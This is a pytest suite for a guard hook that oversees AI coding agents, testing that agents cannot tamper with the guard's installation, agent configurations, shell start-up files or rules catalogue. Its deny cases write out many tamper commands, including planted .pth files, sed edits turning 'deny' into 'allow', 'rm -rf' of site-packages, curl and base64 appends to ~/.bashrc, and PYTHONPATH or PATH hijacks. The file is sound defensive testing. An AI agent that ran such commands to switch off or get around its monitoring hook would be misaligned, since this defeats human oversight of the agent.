"""The trust base (issue 10 items 1-2): what the guard runs on is out of the agent's reach.

1. The installation the hook runs from (derived from the running process: the test venv and
   this checkout here, and a throwaway venv in tmp to show the derivation follows the
   installation) may be read but never written, moved, deleted or replaced, by tool, by
   shell and by name search, for every role; package managers acting on its environment
   are denied, installs into another venv are not.
2. Agent configurations that load code or switch hooks off are protected wherever they are.
3. Shell start-up files only take text that sets none of the hook variables.
4. The rules/ data is checked against the hashes `legant guard init` recorded.
"""

import json
import os
import pathlib
import shutil
import site
import subprocess
import sys

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied, rules_copy

import legant_guard
from legant_guard.hook import trustbase
from legant_guard.hook import trustderivation
from legant_guard.resources import data_dir

INSTALL = "guard's own installation"
PROTECTED = "is protected"
STARTUP = "shell start-up file"
PKG_MANAGER = "guard's own Python environment"

PKG = os.path.dirname(os.path.abspath(legant_guard.__file__))
SITE = site.getsitepackages()[0]
BIN = os.path.dirname(sys.executable)
LEGANT = os.path.join(BIN, "legant")
TRIPWIRES = os.path.join(data_dir("rules"), "tripwires.json")
ROLES = ["operator", "open", "builder"]


@pytest.fixture(scope="module")
def s(tmp_path_factory):
    setup = GuardSetup(tmp_path_factory.mktemp("trust"))
    os.makedirs(os.path.join(setup.project, ".venv", "bin"))
    with open(os.path.join(setup.project, ".venv", "pyvenv.cfg"), "w") as f:
        f.write("home = /usr/bin\n")
    for name in ("pip", "python"):
        path = os.path.join(setup.project, ".venv", "bin", name)
        with open(path, "w") as f:
            f.write("#!/bin/sh\n")
        os.chmod(path, 0o755)
    with open(os.path.join(setup.home, ".bashrc"), "w") as f:
        f.write("# bashrc\nalias l=ls\n")
    return setup


# ------------------------------------------------------------------ the derivation

def test_the_real_installation_is_derived_from_the_running_process():
    paths = {p for _, p in trustderivation.installation()}
    assert PKG in paths
    assert SITE in paths
    assert data_dir("rules") in paths and data_dir("hooks") in paths
    assert sys.executable in paths and os.path.realpath(sys.executable) in paths
    if os.path.exists(LEGANT):
        assert LEGANT in paths
    if sys.prefix != sys.base_prefix:
        assert os.path.join(sys.prefix, "pyvenv.cfg") in paths


def test_the_installers_write_the_legant_the_hook_protects():
    from legant_guard.install.common import hook_command

    command = hook_command("claude-code", "/g", "/p", "builder")
    assert trustderivation.legant_executable() in command
    assert trustderivation.legant_executable() in {p for _, p in trustderivation.installation()}


def test_the_project_and_home_are_never_part_of_it(tmp_path):
    project = str(tmp_path / "proj")
    entries = trustderivation.installation(sys_path=[project, str(tmp_path), "/"], keep_out=(project,))
    paths = {p for _, p in entries}
    assert project not in paths and str(tmp_path) not in paths and "/" not in paths
    assert trustderivation.excluded_sys_path((project,), [project, str(tmp_path), "/usr/lib"]) == [project, str(tmp_path)]


@pytest.fixture(scope="module")
def fake_venv(tmp_path_factory):
    """A real venv in tmp (no pip: fast) whose python runs this checkout's hook."""
    root = tmp_path_factory.mktemp("fakeinstall")
    venv = root / "guardvenv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=120)
    legant = venv / "bin" / "legant"
    # A copy of the package (with its data inside, as in a wheel) outside the test venv, so the
    # fake installation shares nothing with this one whether this one is editable or not.
    src = str(root / "lib")
    shutil.copytree(PKG, os.path.join(src, "legant_guard"), ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("rules", "hooks"):
        if not os.path.isdir(os.path.join(src, "legant_guard", name)):
            shutil.copytree(data_dir(name), os.path.join(src, "legant_guard", name))
    venv.joinpath("src-path").write_text(src)
    legant.write_text(f"#!{venv}/bin/python\nimport sys\nsys.path.insert(0, {src!r})\n"
                      "from legant_guard.entry import main\nsys.exit(main())\n")
    legant.chmod(0o755)
    return venv


def _fake_entries(venv):
    code = "import json, sys; from legant_guard.hook import trustderivation; print(json.dumps(trustderivation.installation()))"
    out = subprocess.run([str(venv / "bin" / "python"), "-c", code], capture_output=True, text=True, check=True,
                         env={"PATH": "/usr/bin:/bin", "PYTHONPATH": (venv / "src-path").read_text()}, timeout=60)
    return {p for _, p in json.loads(out.stdout)}


def test_a_fake_installation_is_derived_from_its_own_layout(fake_venv):
    paths = _fake_entries(fake_venv)
    venv_site = [p for p in paths if p.startswith(str(fake_venv)) and p.endswith("site-packages")]
    assert venv_site, paths
    assert str(fake_venv / "pyvenv.cfg") in paths
    assert str(fake_venv / "bin" / "python") in paths
    assert str(fake_venv / "bin" / "legant") in paths
    assert SITE not in paths  # the test venv is not this installation's


def test_the_hook_of_a_fake_installation_protects_that_installation(s, fake_venv):
    # The hook run by the tmp venv's `legant` protects the tmp venv, not the test venv.
    venv_site = next(p for p in _fake_entries(fake_venv) if p.startswith(str(fake_venv)) and p.endswith("site-packages"))
    env = s.env("operator", PATH="/usr/bin:/bin")

    def run(command):
        event = s.event("Bash", {"command": command})
        return subprocess.run([str(fake_venv / "bin" / "legant"), "guard", "check"], input=json.dumps(event),
                              capture_output=True, text=True, env=env, cwd=s.project, timeout=60)

    proc = run(f"echo 'import os' > {venv_site}/evil.pth")
    assert proc.returncode == 2 and INSTALL in proc.stderr, proc.stderr
    proc = run(f"cp /tmp/x {fake_venv}/bin/legant")
    assert proc.returncode == 2 and PROTECTED in proc.stderr, proc.stderr
    proc = run(f"echo x > {fake_venv}/pyvenv.cfg")
    assert proc.returncode == 2 and INSTALL in proc.stderr, proc.stderr
    proc = run(f"cat {venv_site}/x.pth")
    assert proc.returncode == 0, proc.stderr


def test_an_import_path_the_agent_can_write_is_refused(tmp_path):
    project, home = str(tmp_path / "proj"), str(tmp_path / "home")
    for entry in (project, str(tmp_path), "/"):
        problem = trustbase.import_path_problem(project, home, "/", ["/usr/lib/python3", entry])
        assert "import path includes" in problem and "PYTHONPATH" in problem
    # `python -c` / `python -m` in the project: '' and relative entries are the working folder
    assert trustbase.import_path_problem(project, home, project, ["", "/usr/lib/python3"])
    assert trustbase.import_path_problem(project, home, project, ["."])
    assert trustbase.import_path_problem(project, home, project, [os.path.join(project, "src"), "/usr/lib"]) is None
    assert trustbase.import_path_problem(project, home, "/") is None  # the running test process


def test_the_hook_refuses_every_call_while_the_project_is_on_its_import_path(s, monkeypatch):
    monkeypatch.setattr(sys, "path", [s.project] + sys.path)
    for role in ROLES:
        assert_denied(s.check("Read", {"file_path": os.path.join(s.project, "README")}, role=role),
                      "import path includes", s.project)
    monkeypatch.undo()
    assert_allowed(s.check("Read", {"file_path": os.path.join(s.project, "README")}))


# ------------------------------------------------------------------ writes to the installation

def _targets():
    return {"package": os.path.join(PKG, "hook", "check.py"), "new module": os.path.join(PKG, "evil.py"),
            "pth": os.path.join(SITE, "evil.pth"), "sitecustomize": os.path.join(SITE, "sitecustomize.py"),
            "catalogue": TRIPWIRES, "interpreter": sys.executable, "legant": LEGANT,
            "pyvenv": os.path.join(sys.prefix, "pyvenv.cfg")}


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("what", sorted(_targets()))
def test_file_tools_cannot_write_the_installation(s, role, what):
    target = _targets()[what]
    assert_denied(s.check("Write", {"file_path": target, "content": "x"}, role=role), INSTALL)
    assert_denied(s.check("Edit", {"file_path": target, "old_string": "a", "new_string": "b"}, role=role), INSTALL)
    assert_denied(s.check("write", {"filePath": target, "content": "x"}, role=role, agent="opencode"), INSTALL)


def test_apply_patch_cannot_write_the_installation(s):
    patch = f"*** Begin Patch\n*** Add File: {SITE}/evil.pth\n+import os\n*** End Patch\n"
    assert_denied(s.check("apply_patch", {"command": patch}, role="operator", agent="codex"), INSTALL)
    assert_denied(s.bash(f"apply_patch <<'EOF'\n{patch}EOF", role="operator"), INSTALL)


@pytest.mark.parametrize("command", [
    "echo 'import evil' > {site}/evil.pth",
    "echo 'import evil' >> {site}/x.pth",
    "printf x >| {pkg}/evil.py",
    ": > {tripwires}",
    "echo hi | tee -a {site}/x.pth",
    "sed -i 's/deny/allow/' {pkg}/hook/engine.py",
    "truncate -s0 {tripwires}",
    "chmod 777 {legant}",
    "touch {site}/sitecustomize.py",
    "mv /tmp/evil {legant}",
    "mv {pkg} /tmp/gone",
    "rm -f {site}/distutils-precedence.pth",
    "rm -rf {site_parent}",
    "find {site_parent} -name '*.pth' -delete",
    "find {site} -name '*.py' -exec sed -i s/a/b/ {{}} +",
    "dd if=/dev/zero of={tripwires}",
    "python3 -c pass > {pkg}/__init__.py",
    "bash -c 'echo x > {site}/evil.pth'",
    "echo x > {site}/*.pth",
])
@pytest.mark.parametrize("role", ["operator", "open"])
def test_shell_cannot_write_the_installation(s, command, role):
    cmd = command.format(site=SITE, pkg=PKG, tripwires=TRIPWIRES, legant=LEGANT, site_parent=os.path.dirname(SITE))
    proc = s.bash(cmd, role=role)
    assert proc.returncode == 2, (cmd, proc.stderr)
    reason = assert_denied(proc)
    assert INSTALL in reason or PROTECTED in reason or "protected files live" in reason or "tripwire" in reason, reason


@pytest.mark.parametrize("command", [
    "cp /tmp/evil.pth {site}/",
    "cp /tmp/evil.pth {site}/evil.pth",
    "ln -sf /tmp/evil {legant}",
    "install -m 755 /tmp/evil {legant}",
    "cp -t {site} /tmp/evil.pth",
    "rsync /tmp/evil.pth {site}/",
])
def test_copies_cannot_replace_or_add_to_the_installation(s, command):
    cmd = command.format(site=SITE, legant=LEGANT)
    reason = assert_denied(s.bash(cmd, role="operator"))
    assert INSTALL in reason or PROTECTED in reason or "protected files live" in reason, reason


@pytest.mark.parametrize("command", [
    "cat {pkg}/hook/engine.py",
    "grep -rn deny {pkg}/hook",
    "ls -la {site}",
    "head -5 {tripwires}",
    "cp {pkg}/hook/engine.py /tmp/engine-copy.py",
    "diff {pkg}/hook/engine.py /tmp/engine-copy.py",
    "find {pkg} -name '*.py'",
    "sha256sum {tripwires}",
    "cat {tripwires} > /tmp/catalogue-copy.json",
])
def test_reading_the_installation_stays_allowed(s, command):
    assert_allowed(s.bash(command.format(pkg=PKG, site=SITE, tripwires=TRIPWIRES), role="operator"))


def test_file_tools_read_the_installation(s):
    assert_allowed(s.check("Read", {"file_path": os.path.join(PKG, "hook", "engine.py")}, role="operator"))
    assert_allowed(s.check("Grep", {"pattern": "deny", "path": PKG}, role="operator"))


# ------------------------------------------------------------------ package managers

@pytest.mark.parametrize("command", [
    "{bin}/pip install evil",
    "{bin}/pip3 uninstall -y legant-guard",
    "{bin}/pip install --upgrade --force-reinstall legant-guard",
    "{exe} -m pip install evil",
    "{exe} -m pip uninstall -y evil",
    "pip install --target {site} evil",
    "pip install --prefix {prefix} evil",
    "uv pip install --python {exe} evil",
    "uv pip uninstall --python {prefix} legant-guard",
    "source {bin}/activate && pip install evil",
    ". {bin}/activate; python -m pip install evil",
    "cd {bin} && ./pip install evil",
    "{bin}/easy_install evil",
    "{exe} -m venv --clear {prefix}",
])
def test_package_managers_acting_on_the_guards_environment_are_denied(s, command):
    cmd = command.format(bin=BIN, exe=sys.executable, site=SITE, prefix=sys.prefix)
    reason = assert_denied(s.bash(cmd, role="operator"))
    assert PKG_MANAGER in reason or INSTALL in reason, reason


def test_a_bare_pip_that_the_path_makes_the_guards_is_denied(s):
    env = s.env("operator", PATH=f"{BIN}:/usr/bin:/bin")
    assert_denied(s.bash("pip install evil", env=env), PKG_MANAGER, "PATH")
    assert_denied(s.bash("python3 -m pip install evil", env=env), PKG_MANAGER)
    # the same command with the project's venv first on PATH installs into the project's venv
    env = s.env("operator", PATH=f"{s.project}/.venv/bin:/usr/bin:/bin")
    assert_allowed(s.bash("pip install requests", env=env))


def test_uv_defaults_to_the_guards_env_when_it_is_the_active_venv(s):
    env = s.env("operator", VIRTUAL_ENV=sys.prefix)
    assert_denied(s.bash("uv pip install evil", env=env), PKG_MANAGER)
    assert_denied(s.bash("uv sync", env=env), PKG_MANAGER)


@pytest.mark.parametrize("command", [
    ".venv/bin/pip install requests",
    ".venv/bin/python -m pip install requests",
    "uv pip install --python .venv requests",
    "uv pip install requests",
    "source .venv/bin/activate && pip install requests",
    "pip install --target ./vendor requests",
    "pip download requests",
    "{bin}/pip list",
    "{bin}/pip show legant-guard",
    "{exe} -m pip freeze",
    "python3 -m venv .venv2",
])
def test_installing_into_another_environment_stays_allowed(s, command):
    env = s.env("operator", PATH=f"{s.project}/.venv/bin:/usr/bin:/bin")
    assert_allowed(s.bash(command.format(bin=BIN, exe=sys.executable), env=env))


def test_pip_user_is_denied_only_when_the_guards_python_reads_the_user_site(s):
    from legant_guard.hook import pkgmanagers

    class Trust:  # the parts of TrustBase the package-manager check reads
        def __init__(self, entries):
            from legant_guard.hook.engine import Protected

            self.entries, self.home, self.env = entries, s.home, {"PATH": "/usr/bin:/bin"}
            self.installation = Protected([p for _, p in entries], s.home)

    from legant_guard import shell

    cmd = shell.analyze("/opt/other/bin/pip install --user evil", s.project, s.home).commands[0]
    user_site = ("the user site folder", os.path.join(s.home, ".local", "lib", "site-packages"))
    assert pkgmanagers.check(cmd, Trust([user_site])) is not None
    assert pkgmanagers.check(cmd, Trust([])) is None


# ------------------------------------------------------------------ agent configurations

def _agent_configs(s):
    h, p = s.home, s.project
    return [
        f"{h}/.config/opencode/config.json", f"{h}/.config/opencode/opencode.json", f"{h}/.config/opencode/opencode.jsonc",
        f"{h}/.config/opencode/plugin/x.ts", f"{h}/.opencode/plugins/evil.js", f"{h}/.opencode/opencode.json",
        f"{h}/.claude.json", f"{h}/.claude/settings.json", f"{h}/.claude/hooks/pre.sh", f"{h}/.claude/agents/x.md",
        f"{h}/.claude/commands/x.md", f"{h}/.claude/plugins/p/hooks/hooks.json", f"{h}/.claude/skills/s/SKILL.md",
        "/etc/claude-code/managed-settings.json", "/etc/codex/config.toml",
        f"{h}/.codex/config.toml", f"{h}/.codex/hooks.json", f"{h}/.codex/rules/default.rules",
        f"{p}/.codex/config.toml", f"{p}/.codex/rules/x.rules", f"{p}/.claude/settings.json", f"{p}/.claude/agents/x.md",
        f"{p}/.claude/hooks/x.sh", f"{p}/.mcp.json", f"{p}/.opencode/package.json", f"{p}/opencode.jsonc",
    ]


@pytest.mark.parametrize("index", range(26))
def test_agent_configs_that_load_code_are_protected(s, index):
    target = _agent_configs(s)[index]
    assert_denied(s.check("Write", {"file_path": target, "content": "{}"}, role="operator"), PROTECTED)
    assert_denied(s.bash(f"echo '{{}}' > {target}", role="operator"), PROTECTED)
    assert_denied(s.bash(f"cp /tmp/x {target}", role="operator"), PROTECTED)


@pytest.mark.parametrize("var,inside", [("CODEX_HOME", "rules/evil.rules"), ("CODEX_HOME", "config.toml"),
                                        ("CLAUDE_CONFIG_DIR", "settings.json"), ("CLAUDE_CONFIG_DIR", ".claude.json"),
                                        ("OPENCODE_CONFIG_DIR", "plugins/evil.js"), ("OPENCODE_CONFIG_DIR", "x.json")])
def test_agent_config_folders_named_by_the_environment_are_protected(s, tmp_path, var, inside):
    folder = str(tmp_path / var.lower())
    env = s.env("operator", **{var: folder})
    assert_denied(s.check("Write", {"file_path": os.path.join(folder, inside), "content": "x"}, env=env), PROTECTED)
    assert_denied(s.bash(f"echo x >> {os.path.join(folder, inside)}", env=env), PROTECTED)


def test_opencode_config_file_named_by_the_environment_is_protected(s, tmp_path):
    target = str(tmp_path / "anywhere.json")
    env = s.env("operator", OPENCODE_CONFIG=target)
    assert_denied(s.check("Write", {"file_path": target, "content": "{}"}, env=env), PROTECTED)


def test_global_opencode_config_is_protected_wherever_the_project_lives(s, tmp_path):
    # The event's cwd is far from home: the home-level config is still out of reach.
    assert_denied(s.check("Write", {"file_path": os.path.join(s.home, ".config", "opencode", "config.json"),
                                    "content": "{}"}, role="operator", cwd=str(tmp_path)), PROTECTED)


def test_project_markdown_next_to_agent_configs_stays_writable(s):
    assert_allowed(s.check("Write", {"file_path": os.path.join(s.project, "CLAUDE.md"), "content": "x"}))
    assert_allowed(s.check("Write", {"file_path": os.path.join(s.project, ".opencode", "agent", "x.md"),
                                     "content": "x"}, role="operator"))


# ------------------------------------------------------------------ shell start-up files

@pytest.mark.parametrize("file,text", [
    (".bashrc", "export CODEX_HOME=/tmp/x\n"),
    (".bashrc", "export OPENCODE_PURE=1\n"),
    (".profile", "OPENCODE_DISABLE_PROJECT_CONFIG=1; export OPENCODE_DISABLE_PROJECT_CONFIG\n"),
    (".zshenv", "export CLAUDE_CONFIG_DIR=/tmp/c\n"),
    (".bash_profile", "export OPENCODE_CONFIG=/tmp/o.json\n"),
    (".zshrc", "export PYTHONPATH=/tmp/evil\n"),
    (".bashrc", "export PYTHONSTARTUP=/tmp/s.py\n"),
    (".bashrc", "export PYTHONHOME=/tmp/py\n"),
    (".bashrc", "export LEGANT_GUARD_TOKEN_FILE=/tmp/t\n"),
    (".bashrc", "export PATH=/tmp/evil:$PATH\n"),
    (".bashrc", "source /tmp/vars.sh\n"),
    (".bashrc", ". /tmp/vars.sh\n"),
    (".bashrc", 'eval "$(cat /tmp/v)"\n'),
    (".bashrc", "export $(cat /tmp/v)\n"),
    (".bashrc", 'n=CODEX; export "${n}_HOME=/x"\n'),
    (".config/fish/config.fish", "set -gx OPENCODE_PURE 1\n"),
    (".config/fish/conf.d/x.fish", "fish_add_path /tmp/evil\n"),
    (".envrc", "export CODEX_HOME=/tmp\n"),
])
def test_startup_lines_that_switch_hooks_off_are_denied(s, file, text):
    target = os.path.join(s.home, file)
    assert_denied(s.check("Write", {"file_path": target, "content": text}, role="operator"), STARTUP)
    assert_denied(s.check("Edit", {"file_path": target, "old_string": "alias l=ls", "new_string": text},
                          role="operator"), STARTUP)
    assert_denied(s.check("MultiEdit", {"file_path": target, "edits": [{"old_string": "a", "new_string": text}]},
                          role="operator"), STARTUP)
    quoted = text.replace("'", "'\\''")
    assert_denied(s.bash(f"printf '%s' '{quoted}' >> {target}", role="operator"), STARTUP)
    assert_denied(s.bash(f"cat >> {target} <<'EOF'\n{text}EOF", role="operator"), STARTUP)
    assert_denied(s.bash(f"echo '{quoted}' | tee -a {target}", role="operator"), STARTUP)


def test_an_edit_that_uncomments_a_hook_variable_is_denied(s):
    target = os.path.join(s.home, ".zshrc")
    with open(target, "w") as f:
        f.write("alias l=ls\n#export OPENCODE_PURE=1\n")
    assert_denied(s.check("Edit", {"file_path": target, "old_string": "#e", "new_string": "e"}, role="operator"),
                  STARTUP, "OPENCODE_PURE")
    assert_allowed(s.check("Edit", {"file_path": target, "old_string": "alias l=ls", "new_string": "alias l='ls -F'"},
                           role="operator"))


def test_a_project_envrc_is_judged_for_every_role(s):
    target = os.path.join(s.project, ".envrc")
    assert_denied(s.check("Write", {"file_path": target, "content": "export OPENCODE_DISABLE_PROJECT_CONFIG=1"}),
                  STARTUP)
    assert_denied(s.bash("echo 'export OPENCODE_PURE=1' > sub/.envrc"), STARTUP)
    assert_allowed(s.check("Write", {"file_path": target, "content": "export NODE_ENV=development\n"}))
    # direnv's loaders read files (.env) or set PATH/VIRTUAL_ENV the guard does not see here
    for line in ("dotenv", "dotenv_if_exists .env.local", "source_up", "layout python", "use nix", "PATH_add bin"):
        assert_denied(s.check("Write", {"file_path": target, "content": line + "\n"}), STARTUP)


@pytest.mark.parametrize("command", [
    'echo "export $V=1" >> ~/.bashrc',
    "cat /tmp/lines >> ~/.bashrc",
    "cp /tmp/x ~/.profile",
    "mv /tmp/x ~/.zshrc",
    "sed -i 's/^#//' ~/.bashrc",
    "curl -s https://example.com/x >> ~/.bashrc",
    "base64 -d <<< ZXhwb3J0IENPREVYX0hPTUU9L3RtcAo= >> ~/.bashrc",
    "ln -sf /tmp/x ~/.bashrc",
    "cp /tmp/x /etc/profile.d/x.sh",
    "echo \"$(cat /tmp/x)\" >> ~/.bashrc",
])
def test_startup_writes_whose_text_cannot_be_read_are_denied(s, command):
    assert_denied(s.bash(command, role="operator"), STARTUP)


@pytest.mark.parametrize("command", [
    "echo \"alias ll='ls -la'\" >> ~/.bashrc",
    "printf '%s\\n' 'alias gs=\"git status\"' >> ~/.zshrc",
    "cat >> ~/.bashrc <<'EOF'\nalias g=git\nexport EDITOR=vim\nEOF",
    "cat ~/.bashrc",
    "grep alias ~/.bashrc",
    "cp ~/.bashrc /tmp/bashrc.bak",
])
def test_harmless_startup_edits_stay_allowed(s, command):
    assert_allowed(s.bash(command, role="operator"))


def test_harmless_startup_edits_by_file_tools_stay_allowed(s):
    target = os.path.join(s.home, ".bashrc")
    assert_allowed(s.check("Edit", {"file_path": target, "old_string": "alias l=ls",
                                    "new_string": "alias l=ls\nalias ll='ls -la'"}, role="operator"))
    assert_allowed(s.check("Write", {"file_path": target, "content": "alias ll='ls -la'\nexport EDITOR=vim\n"},
                           role="operator"))
    assert_allowed(s.check("Read", {"file_path": target}, role="operator"))


# ------------------------------------------------------------------ catalogue hashes

def test_init_records_the_catalogue_hashes(s):
    with open(os.path.join(s.dir, "setup.json")) as f:
        record = json.load(f)
    assert record[trustbase.CATALOGUE_KEY] == trustbase.catalogue_hashes()
    assert "tripwires.json" in record[trustbase.CATALOGUE_KEY]


def test_an_edited_catalogue_is_found(tmp_path):
    rules, guard = (pathlib.Path(p) for p in rules_copy(tmp_path))
    assert trustbase.catalogue_problem(str(guard), rules_dir=str(rules)) is None
    tripwires = rules / "tripwires.json"
    original = tripwires.read_bytes()
    tripwires.write_bytes(original.replace(b"catastrophic", b"destructive", 1))
    problem = trustbase.catalogue_problem(str(guard), rules_dir=str(rules))
    assert "rules/tripwires.json was edited" in problem and "legant guard init --project /p" in problem
    tripwires.write_bytes(original)
    (rules / "planted.json").write_text("{}")
    assert "was added" in trustbase.catalogue_problem(str(guard), rules_dir=str(rules))
    os.remove(rules / "planted.json")
    os.remove(rules / "roles" / "builder.yaml")
    assert "roles/builder.yaml is missing" in trustbase.catalogue_problem(str(guard), rules_dir=str(rules))


def _setup_whose_record_differs_from_the_catalogue(tmp_path):
    """A setup whose setup.json recorded another tripwires.json than the one installed."""
    s = GuardSetup(tmp_path)
    path = os.path.join(s.dir, "setup.json")
    with open(path) as f:
        record = json.load(f)
    record[trustbase.CATALOGUE_KEY]["tripwires.json"] = "0" * 64
    with open(path, "w") as f:
        json.dump(record, f)
    return s


def test_the_hook_denies_when_the_catalogue_differs_from_the_record(tmp_path):
    s = _setup_whose_record_differs_from_the_catalogue(tmp_path)
    for role in ROLES:
        assert_denied(s.bash("ls", role=role), "rules/tripwires.json was edited", "legant guard init")
        assert_denied(s.check("Read", {"file_path": os.path.join(s.project, "x")}, role=role), "was edited")


def test_the_fix_command_in_the_reason_records_the_catalogue_again(tmp_path):
    import re

    from conftest import clean_env, run_legant

    s = _setup_whose_record_differs_from_the_catalogue(tmp_path)
    reason = assert_denied(s.bash("ls"), "was edited")
    fix = re.search(r"`(legant guard init [^`]*)`", reason).group(1)
    proc = run_legant(fix.split()[1:], env=clean_env(home=s.home))
    assert proc.returncode == 0, proc.stderr
    assert_allowed(s.bash("ls"))


def test_a_setup_record_without_hashes_is_not_a_deny(tmp_path):
    s = GuardSetup(tmp_path)
    path = os.path.join(s.dir, "setup.json")
    with open(path) as f:
        record = json.load(f)
    del record[trustbase.CATALOGUE_KEY]
    with open(path, "w") as f:
        json.dump(record, f)
    assert_allowed(s.bash("ls"))


# ------------------------------------------------------------------ install time

def test_a_guard_installed_inside_the_project_is_warned_about(tmp_path):
    project = str(tmp_path)
    entries = [("the guard package", os.path.join(project, ".venv", "lib", "site-packages", "legant_guard"))]
    warning = trustderivation.inside_project_warning(project, entries)
    assert "inside the project" in warning and "pipx install legant-guard" in warning
    assert trustderivation.inside_project_warning(project, [("the guard package", "/opt/legant/lib")]) is None


# ------------------------------------------------------------------ writes that do not name the file

@pytest.fixture(scope="module")
def payload(s):
    """An archive, a folder and a patch on disk whose members would land in site-packages."""
    import tarfile

    folder = os.path.join(s.root, "payload")
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "evil.pth"), "w") as f:
        f.write("import os\n")
    archive = os.path.join(s.root, "payload.tar")
    with tarfile.open(archive, "w") as tar:
        tar.add(os.path.join(folder, "evil.pth"), arcname="evil.pth")
    return folder, archive


@pytest.mark.parametrize("command", [
    "tar -xf {archive} -C {site}",
    "cd {site} && tar -xf {archive}",
    "cp -r {folder}/. {site}",
    "rsync -a {folder}/ {site}/",
])
def test_writes_that_land_in_the_installation_without_naming_a_file_are_denied(s, payload, command):
    folder, archive = payload
    reason = assert_denied(s.bash(command.format(folder=folder, archive=archive, site=SITE), role="operator"))
    assert INSTALL in reason or PROTECTED in reason or "protected" in reason, reason


def test_extracting_the_same_archive_elsewhere_stays_allowed(s, payload):
    folder, archive = payload
    assert_allowed(s.bash(f"tar -xf {archive} -C {s.project}", role="operator"))
    assert_allowed(s.bash(f"cp -r {folder}/. {s.project}/vendor", role="operator"))
